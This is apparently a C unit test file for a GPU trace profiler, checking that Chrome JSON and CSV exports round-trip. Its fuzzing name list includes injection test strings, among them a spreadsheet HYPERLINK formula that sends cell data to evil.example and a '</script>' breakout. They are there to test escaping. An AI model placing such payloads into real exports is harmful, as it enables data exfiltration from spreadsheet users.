/* Does a trace that was exported read back as what it was, event by event?
 *
 * Every event becomes a line of all its fields, but for those that docs/export.md
 * says the format loses; the lines before and after must be the same. */
#define _GNU_SOURCE
#include <glob.h>
#include <inttypes.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "core/base/demangle.h"
#include "core/base/files.h"
#include "core/base/stream_edge.h"
#include "core/trace/event_spool.h"
#include "core/trace/readers/work_names.h"
#include "core/trace/selector.h"
#include "reports/document/inert_cell.h"
#include "reports/export/export_text.h"
#include "reports/export/export_tracks.h"
#include "reports/export/trace_export.h"
#include "tests/test.h"
#include "tests/unit/sample.h"

/* ---- lines ---- */

struct lines {
    char **items;
    size_t count;
};

/* What a format is known to lose. */
struct view {
    bool (*takes)(const struct cpprof_event *event);
    bool has_graph, has_local, has_rank, has_recorded_names, has_work_context, has_inert_names;
};

/* Other tools have no records of what streams wait for. */
static bool is_anything(const struct cpprof_event *event)
{
    return !stream_edge_is(event);
}

static bool is_finished_work(const struct cpprof_event *event)
{
    return event_is_gpu_work(event) && !(event->flags & CPPROF_EVENT_UNFINISHED);
}

static bool is_finished_call(const struct cpprof_event *event)
{
    return event->kind == CPPROF_EVENT_API && !(event->flags & CPPROF_EVENT_UNFINISHED);
}

static const struct view chrome_view = {is_anything, true, true, true, true, true, false};
static const struct view gpu_view = {is_finished_work, false, false, false, false, true, true};
static const struct view api_view = {is_finished_call, false, false, false, true, false, true};

/* The name after an export: bytes that are no UTF-8 stay out of these tests. */
static void add_name(struct str *line, const struct view *view, const struct strtab *strings,
                     const struct cpprof_event *event)
{
    const char *name = strtab_text(strings, event->name);
    if (event->kind == CPPROF_EVENT_SYNC)
        str_add(line, *name ? name : work_sync_name(event->detail));
    else if (event->kind == CPPROF_EVENT_KERNEL)
        demangle_full(line, *name ? name : "(no name)");
    else if (view->has_recorded_names)
        str_add(line, *name ? name : "(no name)");
}

static char *line_of(const struct view *view, const struct strtab *strings, const struct cpprof_event *v)
{
    struct str line;
    str_init(&line);
    str_addf(&line, "%" PRId64 "+%" PRId64 " kind %u flags %u device %d rank %d context %u stream %u ", v->start_ns,
             export_end_ns(v) - v->start_ns, v->kind, v->flags & ~EVENT_FOUND, v->device, view->has_rank ? v->rank : -1,
             v->context, v->stream);
    str_addf(&line, "correlation %u thread %u bytes %" PRIu64 " grid %u %u %u block %u %u %u registers %u ",
             v->correlation, v->thread, v->size_bytes, v->grid[0], v->grid[1], v->grid[2], v->block[0], v->block[1],
             v->block[2], v->registers);
    str_addf(&line, "shared %u %u local %u node %" PRIu64 " detail ", v->shared_static_bytes, v->shared_dynamic_bytes,
             view->has_local ? v->local_bytes : 0, view->has_graph ? v->graph_node : 0);
    if (v->kind == CPPROF_EVENT_RANGE)
        str_addf(&line, "'%s' ", strtab_text(strings, v->detail));
    else
        str_addf(&line, "%u ", v->kind == CPPROF_EVENT_KERNEL && !view->has_graph ? 0 : v->detail); /* a cluster */
    struct str name;
    str_init(&name);
    add_name(&name, view, strings, v);
    if (view->has_inert_names)
        inert_cell_add(&line, str_text(&name), name.length);
    else
        str_add(&line, str_text(&name));
    str_release(&name);
    return str_take(&line);
}

static int by_text(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Sorted as text: events that begin and end together come in any order. */
static struct lines lines_of(struct event_stream *stream, const struct view *view)
{
    struct lines lines = {calloc((size_t)event_stream_count(stream) + 1, sizeof(char *)), 0};
    struct cpprof_event event;
    assert_non_null(lines.items);
    assert_int_equal(event_stream_rewind(stream, NULL), 0);
    while (event_stream_next(stream, &event, NULL) == 1)
        if (view->takes(&event) && !stream_edge_is(&event)) /* exports leave them out */
            lines.items[lines.count++] = line_of(view, event_stream_strings(stream), &event);
    qsort(lines.items, lines.count, sizeof *lines.items, by_text);
    assert_int_equal(event_stream_rewind(stream, NULL), 0);
    return lines;
}

static void assert_same_lines(struct lines *a, struct lines *b)
{
    for (size_t i = 0; i < a->count && i < b->count; i++)
        if (strcmp(a->items[i], b->items[i]) != 0)
            fail_msg("line %zu is\n%s\nand became\n%s", i, a->items[i], b->items[i]);
    assert_int_equal(a->count, b->count);
    for (struct lines *l = a;; l = b) {
        for (size_t i = 0; i < l->count; i++)
            free(l->items[i]);
        free(l->items);
        if (l == b)
            return;
    }
}

/* ---- there and back ---- */

static struct event_stream *exported(struct event_stream *stream, const char *to, const char *report,
                                     const char *ending)
{
    char path[] = "/tmp/cpprof_export_XXXXXX.json.gz";
    struct err e = {0};
    struct trace_survey survey;
    struct byte_sink *sink = NULL;
    const struct export_format *format = NULL;
    struct event_stream *back = NULL;
    int fd = mkstemps(path, (int)strlen(".json.gz"));
    assert_true(fd >= 0);
    close(fd);
    unlink(path);
    path[strlen(path) - strlen(".json.gz")] = '\0';
    strcat(path, ending);
    assert_int_equal(export_format_find(to, report, &format, &e), 0);
    if (trace_survey_take(stream, &survey, &e) || byte_sink_create(&sink, path, &e))
        fail_msg("%s", e.text);
    const struct trace_export whole = {.stream = stream, .survey = &survey};
    if (format->write(&whole, sink, &e) || byte_sink_finish(sink, &e))
        fail_msg("%s", e.text);
    byte_sink_free(sink);
    if (event_stream_open(&back, path, &e))
        fail_msg("%s", e.text);
    unlink(path);
    return back;
}

static void check_round_trip(struct event_stream *stream, const char *to, const char *report, const char *ending,
                             const struct view *view)
{
    struct event_stream *back = exported(stream, to, report, ending);
    struct lines before = lines_of(stream, view), after = lines_of(back, view);
    assert_true(before.count > 0);
    assert_same_lines(&before, &after);
    event_stream_free(back);
}

static bool has_ranks(struct event_stream *stream)
{
    struct cpprof_event event;
    int first = INT_MIN;
    bool several = false;
    while (event_stream_next(stream, &event, NULL) == 1) {
        several |= first != INT_MIN && event.rank != first;
        first = event.rank;
    }
    assert_int_equal(event_stream_rewind(stream, NULL), 0);
    return several;
}

/* Traces with more events wait for tests/deep.sh, which sets CPPROF_DEEP. */
enum { EVENTS_OF_SHORT = 3000 };

/* Every bundle that stands in the tree, with what it is all about: real launches, copies, waits and marks. */
TEST(recorded_bundles_come_back)
{
    glob_t found;
    size_t checked = 0;
    assert_int_equal(glob(SOURCE_DIRECTORY "/examples/*/*.cpprof", 0, NULL, &found), 0);
    for (size_t i = 0; i < found.gl_pathc; i++) {
        struct err e = {0};
        struct event_stream *stream;
        if (event_stream_open(&stream, found.gl_pathv[i], &e))
            fail_msg("%s", e.text);
        const bool is_pool = event_stream_count(stream) == 0; /* of times alone */
        const bool is_left_out = is_pool || (event_stream_count(stream) > EVENTS_OF_SHORT && !getenv("CPPROF_DEEP"));
        checked += !is_left_out;
        if (!is_left_out) {
            check_round_trip(stream, "chrome", NULL, ".json", &chrome_view);
            check_round_trip(stream, "chrome", NULL, ".json.gz", &chrome_view);
        }
        if (!is_left_out && !has_ranks(stream)) { /* a table holds one */
            check_round_trip(stream, "csv", "gpu", ".csv", &gpu_view);
            check_round_trip(stream, "csv", "api", ".csv.gz", &api_view);
        }
        event_stream_free(stream);
    }
    globfree(&found);
    assert_true(checked >= 10);
}

TEST(traces_of_others_come_back)
{
    static const char *const names[] = {"kineto.json",      "kineto_old.json",     "nsys_2022.sqlite",
                                        "nsys_2025.sqlite", "nsys_20_columns.csv", "nsys_us_reordered.csv"};
    for (size_t i = 0; i < COUNT_OF(names); i++) {
        struct event_stream *stream = sample_open(names[i]);
        check_round_trip(stream, "chrome", NULL, ".json", &chrome_view);
        event_stream_free(stream);
    }
}

/* ---- events that try everything ---- */

enum { MADE = 2000 };

static uint32_t random_bits(uint64_t *state)
{
    *state = *state * 6364136223846793005u + 1442695040888963407u;
    return (uint32_t)(*state >> 33);
}

static const char *const made_names[] = {"",
                                         "_Z4tileILi3EEvPf",
                                         "quote \" and \\ and , comma",
                                         "tab\tand\x1b[31mred\x7f",
                                         "\xc3\xa9t\xc3\xa9 \xe2\x80\xa8 \xf0\x9f\x92\xa5",
                                         "</script>]]>{\"ph\":\"X\"}",
                                         "None of these",
                                         "=HYPERLINK(\"http://evil.example/\"&A1)",
                                         "\t@SUM(A1)",
                                         "trailing backslash\\",
                                         "two\nlines, \"\r\n\r\n1,2,3\nWARNING: a remark"};
static const char *const made_calls[] = {"cudaLaunchKernel", "cudaMemcpyAsync", "cudaStreamSynchronize",
                                         "cudaGraphAddMemcpyNode", "cudaLaunchHostFunc"};

static struct cpprof_event made_work(uint64_t *state, struct strtab *strings)
{
    static const char *const copy_names[] = {"[CUDA memcpy Host-to-Device]", "[CUDA memset]",
                                             "[CUDA memcpy Unified Host-to-Device]"};
    struct cpprof_event event = {.kind = (uint16_t)(CPPROF_EVENT_KERNEL + random_bits(state) % 4),
                                 .device = (int16_t)(random_bits(state) % 3) - 1,
                                 .context = random_bits(state) % 3,
                                 .stream = random_bits(state) % 4,
                                 .correlation = random_bits(state),
                                 .graph_node = random_bits(state) % 2 ? random_bits(state) : 0};
    if (event.kind != CPPROF_EVENT_KERNEL) {
        event.name = strtab_add(strings, copy_names[event.kind - CPPROF_EVENT_COPY]);
        event.size_bytes = random_bits(state);
        event.detail = event.kind == CPPROF_EVENT_MEMSET ? 0 : CPPROF_COPY_H2D;
        event.flags = event.kind == CPPROF_EVENT_COPY && random_bits(state) % 2 ? CPPROF_EVENT_SRC_PAGEABLE : 0;
        return event;
    }
    event.name = strtab_add(strings, made_names[random_bits(state) % COUNT_OF(made_names)]);
    for (size_t i = 0; i < 3; i++) {
        event.grid[i] = random_bits(state);
        event.block[i] = (uint16_t)random_bits(state);
    }
    event.registers = (uint16_t)random_bits(state);
    event.shared_static_bytes = random_bits(state) % 50000;
    event.shared_dynamic_bytes = random_bits(state) % 200000;
    event.local_bytes = random_bits(state) % 2 ? random_bits(state) : 0;
    return event;
}

static struct cpprof_event made_host(uint64_t *state, struct strtab *strings)
{
    struct cpprof_event event = {.kind = (uint16_t)(CPPROF_EVENT_API + random_bits(state) % 4),
                                 .device = -1,
                                 .thread = random_bits(state) % 3 + 40,
                                 .correlation = random_bits(state)};
    const char *name = made_names[random_bits(state) % COUNT_OF(made_names)];
    if (event.kind == CPPROF_EVENT_API) {
        name = made_calls[random_bits(state) % COUNT_OF(made_calls)];
        event.detail = work_api_kind(name);
    }
    if (event.kind == CPPROF_EVENT_RANGE)
        event.detail = strtab_add(strings, made_names[random_bits(state) % COUNT_OF(made_names)]);
    if (event.kind == CPPROF_EVENT_SYNC) {
        name = "";
        event.detail = random_bits(state) % 5;
        event.stream = random_bits(state) % 4;
        event.context = random_bits(state) % 3;
    }
    event.name = strtab_add(strings, name);
    return event;
}

/* Many begin together, overlap and lie across one another; one in sixteen has no end. */
static struct event_stream *made_stream(uint64_t seed, int ranks)
{
    struct cpprof_event *events = calloc(MADE, sizeof *events);
    struct strtab strings;
    struct event_stream *stream;
    strtab_init(&strings);
    assert_non_null(events);
    for (size_t i = 0; i < MADE; i++) {
        struct cpprof_event *event = &events[i];
        *event = random_bits(&seed) % 2 ? made_work(&seed, &strings) : made_host(&seed, &strings);
        event->rank = (int16_t)(ranks ? (int)(random_bits(&seed) % (unsigned)ranks) : -1);
        event->start_ns = INT64_C(1795237755611270008) + random_bits(&seed) % 5000;
        event->end_ns = event->start_ns + random_bits(&seed) % 300;
        if (random_bits(&seed) % 16 == 0)
            event->flags |= CPPROF_EVENT_UNFINISHED;
    }
    assert_int_equal(event_stream_from_events(&stream, events, MADE, &strings, NULL), 0);
    strtab_release(&strings);
    free(events);
    return stream;
}

TEST(made_events_come_back)
{
    for (uint64_t seed = 1; seed <= 8; seed++) {
        struct event_stream *one = made_stream(seed, 0), *three = made_stream(seed, 3);
        check_round_trip(one, "chrome", NULL, ".json", &chrome_view);
        check_round_trip(three, "chrome", NULL, ".json", &chrome_view);
        check_round_trip(one, "csv", "gpu", ".csv", &gpu_view);
        check_round_trip(one, "csv", "api", ".csv", &api_view);
        event_stream_free(one);
        event_stream_free(three);
    }
}

/* What could not be read before cannot be read after: no export makes evidence whole. */
TEST(caveats_come_back)
{
    static const struct {
        const char *name, *to;
        enum caveat_kind before, after;
    } cases[] = {
        {"bad/cut_in_name.csv", "chrome", CAVEAT_TRUNCATED, CAVEAT_TRUNCATED},
        {"bad/cut_in_name.csv", "csv", CAVEAT_TRUNCATED, CAVEAT_WEAKENS},
        {"nsys_ms_coarse.csv", "chrome", CAVEAT_NOTE, CAVEAT_NOTE},
        {"nsys_two_traces.csv", "chrome", CAVEAT_WEAKENS, CAVEAT_WEAKENS},
        {"nsys_two_traces.csv", "csv", CAVEAT_WEAKENS, CAVEAT_WEAKENS},
    };
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        struct event_stream *stream = sample_open(cases[i].name);
        struct event_stream *back = exported(stream, cases[i].to, NULL, ".out");
        assert_true(caveat_has(event_stream_caveats(stream), cases[i].before));
        if (!caveat_has(event_stream_caveats(back), cases[i].after))
            fail_msg("%s as %s: the caveat is gone", cases[i].name, cases[i].to);
        if (!strcmp(cases[i].to, "chrome"))
            assert_string_equal(first_caveat(back, cases[i].after), first_caveat(stream, cases[i].before));
        event_stream_free(stream);
        event_stream_free(back);
    }
}

TEST(launches_stay_launches)
{
    struct event_stream *stream = sample_open("nsys_kern_exec_trace.csv");
    struct event_stream *back = exported(stream, "chrome", NULL, ".json");
    assert_true(event_stream_is_launches_only(back));
    event_stream_free(back);
    event_stream_free(stream);
}

/* ---- lines of the picture ---- */

/* No event of a line may lie across another one: viewers leave such events out. */
TEST(nothing_overlaps_in_a_line)
{
    static const struct {
        const char *what;
        uint16_t kind;
        int64_t start_ns, end_ns;
        size_t line;
    } cases[] = {
        {"the first one", CPPROF_EVENT_KERNEL, 0, 10, 0},
        {"begins inside of it", CPPROF_EVENT_KERNEL, 5, 8, 1}, /* GPU work never stands inside of other work */
        {"begins as it ends", CPPROF_EVENT_KERNEL, 10, 20, 0},
        {"one line is free", CPPROF_EVENT_KERNEL, 12, 30, 1},
        {"none is", CPPROF_EVENT_KERNEL, 15, 18, 2},
        {"a range", CPPROF_EVENT_RANGE, 20, 100, 0},
        {"a call in it", CPPROF_EVENT_API, 30, 50, 0},
        {"a call in the call", CPPROF_EVENT_API, 35, 50, 0},
        {"a range across the call", CPPROF_EVENT_RANGE, 40, 60, 1},
        {"a call in both ranges", CPPROF_EVENT_API, 55, 58, 0},
        {"a range across the first", CPPROF_EVENT_RANGE, 90, 110, 1},
    };
    struct export_tracks tracks = {0};
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        const struct cpprof_event event = {.kind = cases[i].kind,
                                           .start_ns = cases[i].start_ns,
                                           .end_ns = cases[i].end_ns,
                                           .stream = 7,
                                           .thread = 7,
                                           .rank = -1};
        struct export_place place;
        assert_int_equal(export_tracks_place(&tracks, &event, &place, NULL), 0);
        if (place.line != cases[i].line)
            fail_msg("%s: line %zu instead of %zu", cases[i].what, place.line, cases[i].line);
        assert_int_equal(place.thread == 7, place.line == 0);
    }
    export_tracks_release(&tracks);
}

TEST(numbers_are_exact)
{
    static const struct {
        int64_t ns;
        const char *us;
    } cases[] = {{0, "0.000"},
                 {1, "0.001"},
                 {-1, "-0.001"},
                 {1000, "1.000"},
                 {INT64_C(1795237755611270008), "1795237755611270.008"},
                 {INT64_MIN, "-9223372036854775.808"}};
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        struct str text;
        str_init(&text);
        export_add_us(&text, cases[i].ns);
        assert_string_equal(str_text(&text), cases[i].us);
        str_release(&text);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(recorded_bundles_come_back), cmocka_unit_test(traces_of_others_come_back),
        cmocka_unit_test(made_events_come_back),      cmocka_unit_test(caveats_come_back),
        cmocka_unit_test(launches_stay_launches),     cmocka_unit_test(nothing_overlaps_in_a_line),
        cmocka_unit_test(numbers_are_exact),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
